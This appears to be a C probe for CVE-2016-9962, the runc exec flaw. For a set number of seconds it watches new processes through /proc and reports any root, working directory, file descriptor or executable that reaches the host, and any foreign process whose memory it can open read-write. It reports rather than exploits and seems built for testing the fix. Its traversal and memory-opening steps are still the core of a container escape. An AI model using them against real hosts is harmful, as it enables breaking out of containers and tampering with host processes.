// CVE-2016-9962: for some seconds, looks at every new process through /proc and tells what of the host it shows.
// Usage: peek SECONDS SECRET. SECRET is a path that only the host has. Prints "host root PID", "host cwd PID", "host fd PID N LINK",
// "host exe PID LINK", "mem PID" for a foreign program's memory that could be opened; "saw N" foreign programs, at the end "done".
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <time.h>
#include <unistd.h>

static const char *secret;
static int seen;

static int leads_out(int directory) {
  char path[1024] = "";
  for (int level = 0; level < 14; level++) strcat(path, "../");
  strncat(path, secret, sizeof path - strlen(path) - 1);
  int file = openat(directory, path, O_PATH);
  if (file < 0) file = openat(directory, secret + 1, O_PATH);
  if (file < 0) return 0;
  close(file);
  return 1;
}

// The name of what is held: the process may have something else by now.
static void name_of(int file, char *link, size_t size) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", file);
  ssize_t length = readlink(path, link, size - 1);
  link[length > 0 ? length : 0] = 0;
}

// The file of a descriptor is the container's if its name leads to it here.
static int is_own(int file, const char *link) {
  struct stat found, own;
  return fstat(file, &found) == 0 && stat(link, &own) == 0 && found.st_ino == own.st_ino && found.st_dev == own.st_dev;
}

// A file of a read-only mount, or a sealed memfd, shows nothing that could be changed.
static int is_harmless(int file) {
  struct statvfs system;
  char path[64];
  if (fstatvfs(file, &system) == 0 && system.f_flag & ST_RDONLY) return 1;
  snprintf(path, sizeof path, "/proc/self/fd/%d", file);
  int readable = open(path, O_RDONLY);
  if (readable < 0) return 0;
  int seals = fcntl(readable, F_GET_SEALS);
  close(readable);
  return seals >= 0 && seals & F_SEAL_WRITE;
}

static void look_at_place(int pid, const char *what) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, what);
  int directory = open(path, O_PATH | O_DIRECTORY);
  if (directory < 0) return;
  if (leads_out(directory)) printf("host %s %d\n", what, pid);
  close(directory);
}

static void look_at_descriptors(int pid) {
  char path[300], link[512];
  snprintf(path, sizeof path, "/proc/%d/fd", pid);
  DIR *descriptors = opendir(path);
  if (!descriptors) return;
  for (struct dirent *entry = readdir(descriptors); entry; entry = readdir(descriptors)) {
    // The first three were given to the program.
    if (entry->d_name[0] == '.' || atoi(entry->d_name) < 3) continue;
    snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, entry->d_name);
    int file = open(path, O_PATH);
    if (file < 0) continue;
    name_of(file, link, sizeof link);
    struct stat found;
    if (fstat(file, &found) == 0) {
      if (S_ISDIR(found.st_mode) && leads_out(file)) printf("host fd %d %s %s\n", pid, entry->d_name, link);
      if (S_ISREG(found.st_mode) && link[0] == '/' && !is_own(file, link) && !is_harmless(file))
        printf("host fd %d %s %s\n", pid, entry->d_name, link);
    }
    close(file);
  }
  closedir(descriptors);
}

static void look_at_program(int pid) {
  char path[64], memory[64], link[512];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  snprintf(memory, sizeof memory, "/proc/%d/mem", pid);
  int mem = open(memory, O_RDWR);
  int exe = open(path, O_PATH);
  if (exe >= 0) {
    name_of(exe, link, sizeof link);
    // After the memory was opened this is still not the container's program, so the memory was not either.
    if (link[0] && !is_own(exe, link)) {
      seen++;
      if (!is_harmless(exe)) printf("host exe %d %s\n", pid, link);
      if (mem >= 0) printf("mem %d\n", pid);
    }
    close(exe);
  } else {
    // A process that cannot be looked at is the runtime's too.
    seen++;
  }
  if (mem >= 0) close(mem);
}

static double seconds(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  secret = argv[2];
  puts("up");
  fflush(stdout);
  int own = getpid();
  for (double end = seconds() + atoi(argv[1]); seconds() < end;) {
    DIR *proc = opendir("/proc");
    if (!proc) return 2;
    for (struct dirent *entry = readdir(proc); entry; entry = readdir(proc)) {
      int pid = atoi(entry->d_name);
      if (pid <= 0 || pid == own) continue;
      look_at_place(pid, "root");
      look_at_place(pid, "cwd");
      look_at_descriptors(pid);
      look_at_program(pid);
    }
    closedir(proc);
  }
  printf("saw %d\ndone\n", seen);
  return 0;
}
